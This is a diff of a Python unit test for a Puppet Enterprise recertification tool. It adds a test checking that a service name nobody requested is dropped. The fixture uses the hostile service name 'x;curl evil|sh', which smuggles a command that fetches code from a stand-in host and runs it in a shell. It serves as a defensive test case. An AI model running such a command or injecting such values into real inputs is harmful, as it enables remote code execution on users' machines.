@@ -15,6 +15,7 @@ from facts.puppet import PuppetSettings
 from procedures.agent import AgentFacts, AgentRefusedError, ask_agent
 from procedures.host import ask
 from recert.deployments.pe_3_7 import PE_3_7
+from recert.observed import Service
 from tests.unit.issuing_ca import settings
 
 T = TypeVar("T")
@@ -68,6 +69,15 @@ class _Counted(AgentFacts):
     def _ask(self, fact: type[FactBase[T]], **arguments: object) -> T:
         type(self).asked += 1
         return cast(T, {})
+
+
+def test_a_service_that_nobody_has_asked_for_is_none(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Its name would stand in a command to paste."""
+    (host,) = State(Inventory((["web01"], {})), Config()).inventory
+    facts = AgentFacts(host, settings(), "/var/lib/pe-recert/backups", PE_3_7)
+    said = {"x;curl evil|sh": Service.STOPPED, "pe-puppet": Service.RUNNING}
+    monkeypatch.setattr(facts, "known", lambda name: said)
+    assert facts.services == {"pe-puppet": Service.RUNNING, "pe-mcollective": Service.MISSING}
 
 
 @pytest.mark.parametrize(("waits", "asked"), [(0, 1), (11, 2)])
